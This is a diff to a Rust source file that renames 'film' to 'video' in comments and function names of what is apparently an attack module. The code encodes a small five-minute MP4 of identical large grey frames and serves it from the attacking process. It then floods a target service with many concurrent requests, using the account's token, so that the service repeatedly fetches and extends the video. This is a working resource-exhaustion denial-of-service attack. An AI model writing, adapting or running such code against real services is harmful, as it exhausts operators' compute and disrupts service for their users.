@@ -1,4 +1,4 @@
-//! Films with small files and large frames.
+//! Videos with small files and large frames.
 
 use std::rc::Rc;
 use std::time::{Duration, Instant};
@@ -18,13 +18,13 @@ const OWN_VIDEO: Duration = Duration::from_mins(5);
 const SIZE: Size = Size { width: 1920, height: 1088 };
 /// Frames of a group, which begins with a key frame. All groups are the same, to make encoding fast.
 const GROUP: usize = 24;
-/// Groups: five minutes, the longest accepted film.
+/// Groups: five minutes, the longest accepted video.
 const GROUPS: usize = 300;
 
-/// Repeatedly submits a film to be extended. The service fetches it from this process, as from any other server.
+/// Repeatedly submits a video to be extended. The service fetches it from this process, as from any other server.
 pub async fn extend(target: &Rc<AttackTarget>) {
     let Some(video_id) = own_video(target).await else { return };
-    let url = serve(film()).await;
+    let url = serve(grey_video()).await;
     let token = target.account.token.clone();
     flood(target, CONNECTIONS, move |iteration| {
         let body = json!({
@@ -59,13 +59,13 @@ async fn own_video(target: &AttackTarget) -> Option<String> {
     None
 }
 
-/// Film of grey frames.
-fn film() -> Vec<u8> {
+/// Video of grey frames.
+fn grey_video() -> Vec<u8> {
     let pixels = SIZE.width * SIZE.height;
     let grey = Yuv { size: SIZE, luma: vec![128; pixels], blue: vec![128; pixels / 4], red: vec![128; pixels / 4] };
     let mut encoder = H264.encoder(SIZE, EncodingQuality::Compact).expect("a size that is encoded");
     let group: Vec<Vec<u8>> = (0..GROUP).map(|_| encoder.encode(&grey).expect("a frame")).collect();
-    write_mp4(&EncodedVideo { groups: vec![group; GROUPS] }, None).expect("a film")
+    write_mp4(&EncodedVideo { groups: vec![group; GROUPS] }, None).expect("a video")
 }
 
 /// Serves a file under every path and returns the base URL.
